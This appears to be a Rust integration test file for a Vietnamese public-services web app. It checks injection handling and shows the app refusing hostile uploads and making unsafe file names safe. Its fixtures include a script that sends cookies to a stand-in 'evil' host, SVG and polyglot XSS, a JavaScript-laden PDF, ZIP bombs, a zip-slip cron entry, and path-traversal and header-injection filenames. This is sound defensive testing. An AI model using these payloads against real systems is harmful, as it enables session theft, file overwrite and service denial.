                .get(header::CONTENT_TYPE)
                .and_then(|v| v.to_str().ok())
                .unwrap_or("")
                .to_string();
            if !matches!(status.as_u16(), 200 | 400 | 403 | 404 | 422) {
                failures.push(format!("{cell}: {status} {}", &body[..body.len().min(300)]));
                continue;
            }
            if status != StatusCode::OK {
                // A clear error: a JSON code, or the bilingual error page.
                let clear = if ct.starts_with("application/json") {
                    body.contains("\"code\"") && body.contains("message_en")
                } else {
                    ct.starts_with("text/html") && body.contains("lang=\"")
                };
                if !clear {
                    failures.push(format!("{cell}: {status} without a clear message ({ct})"));
                }
                continue;
            }
            let leaked = match lists {
                Anything => false,
                NotTheDossier => body.contains(&code) || body.contains("Trương Văn Quầy"),
                NoAccount => body.contains("/quan-tri/nguoi-dung/mc-phukhuong\""),
                NoAgency => body.contains(&format!("/quan-tri/co-quan/{WARD}\"")),
            };
            if leaked {
                failures.push(format!("{cell}: rows leaked"));
            }
        }
    }
    assert!(requests >= injections().len() * (pages.len() + api.len()));
    assert!(
        failures.is_empty(),
        "{} requests misbehaved:\n{}",
        failures.len(),
        failures.join("\n")
    );
    // Nothing changed (sessions touched by the sign-ins aside), and the filters still work.
    let after = row_counts(&served.db.url).await;
    let changed: Vec<_> = after
        .iter()
        .filter(|(t, n)| before.get(*t) != Some(n))
        .collect();
    assert!(changed.is_empty(), "{engine}: rows changed: {changed:?}");
    assert_eq!(
        s.app
            .store
            .verify_audit_chain()
            .await
            .expect("audit")
            .first_break,
        None
    );
    let mc = visitors.get_mut("mc-phukhuong").expect("officer");
    let (_, _, html) = mc.get(s, "/can-bo?hang=tat-ca&q=quay").await;
    assert!(
        html.contains(&code),
        "{engine}: the real search finds nothing"
    );
}

/// The small real files and ZIP bombs of tinhso-objects' own tests, shared, not copied.
#[allow(dead_code)]
#[path = "../../../tinhso-objects/tests/it/fixtures.rs"]
mod upload_fixtures;

/// Every file under a folder (the object store's files).
fn files_under(root: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for e in entries.flatten() {
            let path = e.path();
            if path.is_dir() {
                stack.push(path);
            } else {
                out.push(path);
            }
        }
    }
    out.sort();
    out
}

/// Files an attacker would upload as a "PDF", a "scan" or a "form", and what the answer says.
fn refused_uploads() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    use upload_fixtures::{deflated, docx_entries, stored, zip, Entry};
    let mut exe = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0".to_vec();
    exe.extend_from_slice(b"This program cannot be run in DOS mode.");
    let html = b"<html><script>document.location='//evil/?c='+document.cookie</script></html>";
    let svg =
        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>";
    let mut polyglot = b"<html><script>alert(1)</script>".to_vec();
    polyglot.extend_from_slice(&upload_fixtures::pdf());
    // A DOCX that declares 4 GiB inside 4 KiB, one that inflates 8 MiB while declaring 1 KiB,
    // an XLSX whose embedded workbook is a bomb, and a ZIP that escapes with `../`.
    let mut declared = docx_entries("x");
    declared.push(Entry {
        declared_size: Some(0xFFFF_FFF0),
        ..deflated("word/media/big.bin", &[0u8; 1024])
    });
    let mut understated = docx_entries("x");
    understated.push(Entry {
        declared_size: Some(1024),
        ..deflated("word/media/image1.png", &vec![0u8; 8 << 20])
    });
    let inner = zip(&[Entry {
        declared_size: Some(0xFFFF_0000),
        ..deflated("a.xml", b"<a/>")
    }]);
    let mut nested = docx_entries("x");
    nested.push(stored(
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
        &inner,
    ));
    let mut slip = docx_entries("x");
    slip.push(deflated("../../../../etc/cron.d/x", b"* * * * * root sh"));
    let plain_zip = zip(&[deflated("giay-to.pdf", &upload_fixtures::pdf())]);
    let js_pdf = upload_fixtures::pdf_with("/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>");
    vec![
        ("giay-to.pdf", exe, "file_type_not_allowed"),
        ("scan.pdf", html.to_vec(), "file_type_not_allowed"),
        ("anh.png", svg.to_vec(), "file_type_not_allowed"),
        ("x.pdf", polyglot, "file_type_not_allowed"),
        ("don.docx", zip(&declared), "archive_bomb"),
        ("don.docx", zip(&understated), "archive_bomb"),
        ("don.docx", zip(&nested), "archive_bomb"),
        ("don.docx", zip(&slip), "file_type_not_allowed"),
        ("ho-so.zip", plain_zip, "file_type_not_allowed"),
        ("to-khai.pdf", js_pdf, "active_content"),
        ("rong.pdf", Vec::new(), "empty_file"),
        (
            "lon.pdf",
            vec![b'%'; 20 * 1024 * 1024 + 1],
            "file_too_large",
        ),
    ]
}

#[tokio::test]
async fn refused_uploads_store_nothing_through_the_api_and_the_pages() {
    let Some(served) = served("sqlite").await else {
        return;
    };
    let s = &served.s;
    let objects = served.db.dir.join("objects");
    let token = served.tokens.get("cong-dan-demo").expect("token").clone();
    let upload = |name: String, bytes: Vec<u8>| {
        let token = token.clone();
        async move {
            let uri = format!(
                "/api/v1/attachments?name={}",
                tinhso_web::html::session::encode_query(&name)
            );
            send(
                s,
                Request::post(uri)
                    .header(header::AUTHORIZATION, format!("Bearer {token}"))
                    .header(header::CONTENT_TYPE, "application/octet-stream")
                    .body(Body::from(bytes))
                    .expect("request"),
            )
            .await
        }
    };
    let mut citizen = signed_in(s, "cong-dan-demo").await;
    let files_before = files_under(&objects);
    let rows_before = row_counts(&served.db.url).await;
    let mut failures = Vec::new();
    for (name, bytes, code) in refused_uploads() {
        let size = bytes.len();
        let (status, _, body) = upload(name.to_string(), bytes.clone()).await;
        let json: serde_json::Value = serde_json::from_str(&body).unwrap_or_default();
        let clear = status.is_client_error()
            && json["error"]["code"] == code
            && json["error"]["message"]
                .as_str()
                .is_some_and(|m| !m.is_empty())
            && json["error"]["message_en"]
                .as_str()
                .is_some_and(|m| !m.is_empty());
        if !clear {
            failures.push(format!("API {name} ({size} bytes): {status} {body}"));
        }
        // The same file in the online form: the form again, 422, the message beside the file.
        if size > 2 * 1024 * 1024 {
            continue;
        }
        let (_, _, html) = citizen.get(s, &format!("/nop-ho-so/{PROCEDURE}")).await;
        let csrf = csrf_field(&html);
        let key = input_value(&html, "khoa").expect("key");
        let (status, _, html) = post_multipart(
            s,
            &citizen,
            &format!("/nop-ho-so/{PROCEDURE}"),
            &[
                ("csrf", &csrf),
                ("khoa", &key),
                ("co_quan", WARD),
                ("ho_ten", "Nguyễn Thị Hồng Nhung"),
                ("dien_thoai", "0912 345 678"),
                ("noi_dung", "Đăng ký khai sinh"),
            ],
            &[("tep_0", name, &bytes)],
        )
        .await;
        if status != StatusCode::UNPROCESSABLE_ENTITY || html.contains("id=\"form-xac-nhan\"") {
            failures.push(format!("form {name} ({size} bytes): {status}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert_eq!(
        files_under(&objects),
        files_before,
        "a refused upload left a file"
    );
    let rows_after = row_counts(&served.db.url).await;
    let changed: Vec<_> = rows_after
        .iter()
        .filter(|(t, n)| rows_before.get(*t) != Some(n))
        .collect();
    assert!(
        changed.is_empty(),
        "a refused upload left rows: {changed:?}"
    );

    // Hostile names on a good file: accepted, the name made safe, the object named by its hash
    // inside the store's folder and nowhere else.
    let pdf = small_pdf();
    for name in [
        "../../../../etc/passwd.pdf",
        "..\\..\\Windows\\System32\\giay.pdf",
        "/tmp/tinhso-escape.pdf",
        "a\r\nContent-Type: text/html\r\n\r\n<b>x</b>.pdf",
        "\u{202e}fdp.exe",
        "CON.pdf",
        " .. ",
    ] {
        let (status, _, body) = upload(name.to_string(), pdf.clone()).await;
        assert_eq!(status, StatusCode::CREATED, "{name:?}: {body}");
        let json: serde_json::Value = serde_json::from_str(&body).expect("json");
        let safe = json["name"].as_str().expect("name");
        assert!(
            !safe.contains(['/', '\\', '\r', '\n', '<', '\u{202e}']) && !safe.starts_with('.'),
            "{name:?} → {safe:?}"
        );
        assert!(safe.ends_with(".pdf"), "{name:?} → {safe:?}");
        assert!(!std::path::Path::new("/tmp/tinhso-escape.pdf").exists());
    }
    // One object for the seven uploads of the same bytes, named by its hash, under the store.
    let files = files_under(&objects);
    let hex = tinhso_objects::ContentHash::of(&pdf).to_hex();
    assert_eq!(files.len(), 1, "{files:?}");
    assert!(files[0].starts_with(&objects), "{files:?}");
    assert_eq!(
        files[0].file_name().and_then(|n| n.to_str()),
        Some(hex.as_str())
    );
}
